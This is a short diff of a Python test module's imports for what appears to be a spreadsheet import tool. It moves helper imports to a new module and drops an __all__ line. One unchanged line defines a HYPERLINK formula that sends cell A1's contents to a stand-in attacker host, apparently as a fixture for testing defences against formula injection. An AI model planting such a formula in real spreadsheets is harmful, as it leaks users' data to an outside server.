@@ -14,9 +14,7 @@ from intake import formulas
 from storage.db import make_sessions
 from storage.models import Statistic, Status
 from tests import items
-from tests.test_import_cli import counts, figure_row, run, write_csv
-
-__all__ = ["run"]  # the fixture, imported for this module's tests
+from tests.spreadsheets import counts, figure_row, write_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")'
 
